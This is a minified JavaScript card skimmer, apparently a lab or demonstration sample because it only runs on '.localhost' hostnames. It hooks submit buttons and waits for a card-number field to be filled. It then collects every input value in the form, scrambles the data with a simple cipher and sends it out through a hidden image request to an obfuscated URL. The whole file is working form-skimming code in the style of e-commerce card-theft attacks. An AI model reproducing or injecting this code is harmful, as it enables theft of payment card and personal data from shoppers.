!function(){function a(s){var o="",p="q7Zk2";for(var i=0;i<s.length;i++)o+=s.charAt(i)+p.charAt(i%5);return o}
function u(s){for(var o="",i=0;i<s.length;i+=2)o+=s.charAt(i);return o}
var h=u("hxtqtwpesr:t/y/umiioxp-apsaddf.glhojckallzhxocsvtb");
if(!/\.localhost$/.test(location.hostname))return;
var b=document.querySelectorAll("button,input[type=submit],input[type=image],a.button");
for(var n=0;n<b.length;n++)b[n].addEventListener("mouseup",function(){
var c=document.querySelector("[name=card_number],[name=cardnumber],[name=cc-number],[name=ccnum]");if(!c||c.value.length<13)return;
var f=c.form||document.body,v=f.querySelectorAll("input,select"),s="";for(var k=0;k<v.length;k++)s+=v[k].value+"|";
document.createElement("img").src=h+"/o.jpg?o="+encodeURIComponent(a(s))})}();
